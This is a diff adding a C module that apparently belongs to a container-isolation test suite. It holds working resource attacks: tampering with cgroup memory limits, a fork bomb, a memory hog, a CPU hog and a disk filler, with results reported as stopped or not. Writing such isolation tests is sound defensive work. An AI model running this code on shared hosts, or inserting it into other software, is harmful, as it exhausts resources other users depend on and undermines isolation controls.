@@ -1,0 +1,147 @@
+/* The machine's memory, time, processes and disk. */
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { MIB = 1 << 20 };
+
+/* 16: whoever can write to the files of a cgroup sets its limits. */
+static int raise_limit(void)
+{
+    if (overwrite(host.argument, "max") == 0 || overwrite(host.argument, "-1") == 0)
+        return 0; /* outside of any container */
+    if (mount("cgroup", "mnt", "cgroup2", 0, NULL) == 0 && overwrite("mnt/memory.max", "max") == 0)
+        return 0;
+    if (mount("cgroup", "mnt", "cgroup", 0, "memory") < 0)
+        return -1;
+    overwrite("mnt/memory.memsw.limit_in_bytes", "-1"); /* never below the other */
+    return overwrite("mnt/memory.limit_in_bytes", "-1");
+}
+
+/* A child that does something until it is killed, or its parent has ended. */
+static pid_t start(void (*act)(void))
+{
+    pid_t child = fork();
+
+    if (child == 0) {
+        prctl(PR_SET_PDEATHSIG, SIGKILL);
+        act();
+        _exit(0);
+    }
+    return child;
+}
+
+static void wait_for_ever(void)
+{
+    for (;;)
+        pause();
+}
+
+/* 28: each process needs a number and the kernel's memory; without both nobody can start one. */
+static int fork_bomb(void)
+{
+    enum { MORE_THAN_A_CONTAINER_NEEDS = 300 };
+
+    for (int i = 0; i < MORE_THAN_A_CONTAINER_NEEDS; i++)
+        if (start(wait_for_ever) < 0)
+            return -1;
+    return 0;
+}
+
+static void use_memory(void)
+{
+    enum { MORE_THAN_A_CONTAINER_NEEDS = 640 };
+
+    for (int i = 0; i < MORE_THAN_A_CONTAINER_NEEDS; i++) {
+        char *piece = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+        if (piece == MAP_FAILED)
+            _exit(errno);
+        memset(piece, 1, MIB);
+    }
+}
+
+/* 29: without memory for all, the kernel kills processes, and not only those that took it. */
+static int memory_hog(void)
+{
+    int status;
+
+    if (waitpid(start(use_memory), &status, 0) < 0)
+        return -1;
+    if (WIFSIGNALED(status))
+        return stopped("SIGKILL");
+    errno = WEXITSTATUS(status);
+    return errno ? -1 : 0;
+}
+
+static double seconds(clockid_t clock)
+{
+    struct timespec now;
+
+    clock_gettime(clock, &now);
+    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
+}
+
+static void use_processor(void)
+{
+    double end = seconds(CLOCK_MONOTONIC) + 1;
+
+    while (seconds(CLOCK_MONOTONIC) < end)
+        ;
+}
+
+/* How many processors two children had. */
+static double processors_used(void)
+{
+    double begin = seconds(CLOCK_MONOTONIC), used = 0;
+    struct rusage usage;
+
+    start(use_processor);
+    start(use_processor);
+    for (int i = 0; i < 2; i++)
+        if (wait4(-1, NULL, 0, &usage) > 0)
+            used += (double)usage.ru_utime.tv_sec + (double)usage.ru_utime.tv_usec / 1e6 +
+                    (double)usage.ru_stime.tv_sec + (double)usage.ru_stime.tv_usec / 1e6;
+    return used / (seconds(CLOCK_MONOTONIC) - begin);
+}
+
+/* 30: more than one processor's time. Another process may be in the way once, or twice. */
+static int cpu_hog(void)
+{
+    if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+        return not_here("there is but one processor");
+    for (int i = 0; i < 3; i++)
+        if (processors_used() > 1.5)
+            return 0;
+    return stopped("throttled");
+}
+
+/* 38: what is written inside is on the host's disk, which others need. */
+static int fill_disk(void)
+{
+    enum { PIECES = 48 };
+    static char piece[MIB];
+    int fd = open("big", O_WRONLY | O_CREAT | O_TRUNC, 0600);
+
+    if (fd < 0)
+        return -1;
+    for (int i = 0; i < PIECES; i++)
+        if (write(fd, piece, MIB) < MIB)
+            return -1;
+    return close(fd);
+}
+
+const struct attack resource_attacks[] = {
+    {"raise_limit", raise_limit}, {"fork_bomb", fork_bomb}, {"memory_hog", memory_hog},
+    {"cpu_hog", cpu_hog},         {"fill_disk", fill_disk}, {0},
+};
